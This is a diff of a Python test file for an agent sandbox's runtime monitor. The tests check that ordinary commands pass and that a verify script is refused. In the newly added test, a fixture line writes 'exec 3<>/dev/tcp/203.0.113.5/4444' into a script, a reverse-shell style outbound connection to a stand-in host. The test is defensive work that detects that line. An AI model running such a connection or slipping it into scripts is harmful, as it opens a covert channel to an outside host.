@@ -1,4 +1,4 @@
-"""Whole runs under the runtime monitor: what it sees is decided, recorded, ends or holds the run; its loss closes it."""
+"""Whole runs under the runtime monitor: what it sees is decided and recorded, ends or holds them; its loss, too."""
 
 from __future__ import annotations
 
@@ -57,7 +57,7 @@ def test_a_shell_that_reaches_out_is_ended_within_a_second_and_refused(house: Ho
 
 def test_ordinary_work_is_watched_agrees_with_its_patch_and_is_held_by_nothing(house: House) -> None:
     done = house.change(
-        "git status >/dev/null; git diff >/dev/null; echo x > /tmp/cache; mkdir -p ~/.cache/pip; echo y > ~/.cache/pip/z; "
+        "git status >/dev/null; git diff >/dev/null; echo x > /tmp/cache; mkdir -p ~/.cache; echo y > ~/.cache/z; "
         "mkdir src/new; echo 1 > src/new/.tmp; mv src/new/.tmp src/new/a.py; mv src/new src/moved; "
         "python3 -c \"open('src/app.py','a').write('#')\"; rm tests/test_app.py; cat /proc/self/status > /dev/null"
     )
@@ -165,3 +165,13 @@ def test_a_minimum_with_a_monitor_is_refused_where_none_stands(house: House, tmp
     assert done.code == 3, (done.out, done.err)
     assert done.json["monitor"] == {**done.json["monitor"], "rung": "none", "why": "this kernel has no BTF"}
     assert done.json["sandbox"]["walls"]["monitor"] == "down"
+
+
+def test_verify_commands_are_watched_too(house: House) -> None:
+    config = (house.repo / ".vestibule" / "config.yaml").read_text()
+    house.commit({".vestibule/config.yaml": f"{config}verify: {{commands: [['bash', 'src/check.sh']]}}\n"})
+    done = house.change("echo 'exec 3<>/dev/tcp/203.0.113.5/4444; true' > src/check.sh")
+    assert done.code == 3, (done.out, done.err)
+    done = house.vestibule("review", done.json["run"], "--approve", "--reason", "Looks right.", "--json")
+    assert done.code == 4, (done.out, done.err)
+    assert "host.behaviour" in [item["rule"] for item in done.json["refusals"]]
